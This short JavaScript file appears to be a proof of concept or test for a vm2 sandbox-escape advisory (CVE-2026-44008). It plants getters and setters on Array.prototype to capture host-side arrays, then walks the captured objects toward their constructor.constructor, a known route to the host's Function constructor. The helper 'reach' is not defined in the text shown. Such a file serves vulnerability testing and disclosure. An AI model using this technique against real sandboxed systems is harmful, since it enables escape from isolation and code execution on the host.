// Getters on Array.prototype that see the arrays that the host works with.
// advisory: CVE-2026-44008 (vm2)
const held = [];
for (let i = 0; i < 3; i++) Object.defineProperty(Array.prototype, i, { configurable: true, get() { held.push(this); return undefined; }, set(value) { held.push(this, value); Object.defineProperty(this, i, { value, writable: true, configurable: true, enumerable: true }); } });
try { console.log('a', ['b'], { c: [1, 2] }); new Error('x').stack; JSON.stringify([1]); [1, 2].map((x) => x); structuredClone([1]); } finally { for (let i = 0; i < 3; i++) delete Array.prototype[i]; }
console.log('ATTEMPTED');
for (const thing of held) { if (thing && typeof thing === 'object') for (const value of Object.values(thing)) { try { reach(value, value?.constructor?.constructor); } catch { /* odd */ } } }
